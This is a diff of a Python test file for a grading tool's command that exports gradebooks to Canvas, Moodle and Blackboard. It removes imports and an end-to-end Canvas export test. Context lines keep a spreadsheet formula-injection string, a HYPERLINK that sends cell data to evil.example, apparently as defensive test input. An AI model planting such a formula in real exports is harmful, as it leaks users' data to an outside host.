@@ -1,5 +1,6 @@
 """`grader export canvas|moodle|blackboard` (grader/exports/lms/) against rosters shaped like each
-site's own export. GitHub Classroom's export is tested in test_classroom.py."""
+site's own export. GitHub Classroom's export is tested in test_classroom.py; a real graded class's
+gradebook exported to Canvas in test_site_class.py."""
 
 from __future__ import annotations
 
@@ -7,9 +8,6 @@ import csv
 import io
 import json
 import re
-import shutil
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
@@ -19,7 +17,6 @@ from grader.cli import main
 from grader.reports.gradebook import gradebook_json
 from grader.reports.roster import with_identity
 from grader.workbook.catalog import load_catalog
-from grader.workbook.paths import SOLUTIONS_DIR
 from grader.workbook.results import (
     BatchRecord,
     CheckResult,
@@ -27,9 +24,7 @@ from grader.workbook.results import (
     Status,
     SubmissionResult,
 )
-from tests.helpers import stub_text
 
-GRADER = str(Path(sys.executable).with_name("grader"))
 MAX_TOTAL = sum(e.points for e in load_catalog())  # 145
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
@@ -257,31 +252,3 @@ def test_unusable_input_exits_2_and_writes_nothing(tmp_path, gradebook):
     (tmp_path / "grades.json").write_text('{"students": [{"student": 1}]}')
     code, output = run_export("moodle", out, "--gradebook", tmp_path, "--roster", roster)
     assert code == 2 and "not a grader gradebook" in output and not out.exists()
-
-
-def test_real_batch_exports_to_canvas(tmp_path):
-    """A tiny real batch, named as Canvas names its downloads, graded and exported."""
-    edge = next(e for e in load_catalog() if e.id == "edge_filter")
-    batch = tmp_path / "batch"
-    batch.mkdir()
-    shutil.copy(SOLUTIONS_DIR / edge.filename, batch / f"smithjohn_12345_900_{edge.filename}")
-    (batch / f"doejane_late_23456_901_{edge.filename}").write_text(stub_text(edge.filename))
-    done = subprocess.run(
-        [GRADER, "grade", str(batch), "--out", str(tmp_path / "out"), "--only", "edge_filter"],
-        capture_output=True,
-        text=True,
-        timeout=600,
-    )
-    assert done.returncode == 0, done.stderr[-3000:]
-    roster = tmp_path / "canvas.csv"
-    roster.write_text(CANVAS_ROSTER.replace("jdoe", "jdoe2"))  # only the site id can match Jane
-    out = tmp_path / "canvas_import.csv"
-    done = subprocess.run(
-        [GRADER, "export", "canvas", str(out), "--gradebook", str(tmp_path / "out"),
-         "--roster", str(roster), "--title", "Lab 01", "--points", str(edge.points)],
-        capture_output=True, text=True,
-    )  # fmt: skip
-    assert done.returncode == 0, done.stderr
-    body = {r[1]: r[-1] for r in rows_of(out)[2:]}
-    assert body["12345"] == str(edge.points) and body["23456"] == "0"
-    assert "matched 2 of 8 roster rows (2 by site id)" in done.stderr
